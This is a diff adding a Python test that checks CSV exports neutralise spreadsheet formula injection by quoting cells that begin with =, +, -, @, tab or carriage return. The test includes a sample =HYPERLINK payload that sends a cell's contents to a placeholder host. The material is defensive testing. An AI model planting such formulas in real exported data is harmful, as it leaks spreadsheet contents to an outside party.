@@ -79,6 +79,18 @@ def test_the_mistake_columns_carry_the_sentence_and_the_id_its_own_column():
     assert row["status"] == "timed out" and row["reason"] == "softmax: timed out after 10 s"
 
 
+def test_candidate_text_that_a_spreadsheet_would_run_is_made_inert():
+    # an exception class may be named anything: the forty-fifth review's `=HYPERLINK(...)` led the reason cell
+    formula = '=HYPERLINK("http://example.invalid/"&A1,"click")'
+    raised = check("softmax", "softmax_shape", "error", f"{formula}: x (line 2)", error_kind="raised")
+    result = graded(("softmax", (raised,)))
+    [row] = csv.DictReader(io.StringIO(batch.to_csv([batch.row_of(result, 1.0)])))
+    assert row["softmax_mistake"] == f"'{formula}: x (line 2)"
+    for text in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert batch.inert(text) == "'" + text
+    assert batch.inert("ValueError: x") == "ValueError: x" and batch.inert("") == ""
+
+
 # -- the CSV as files finish ---------------------------------------------------------------
 
 
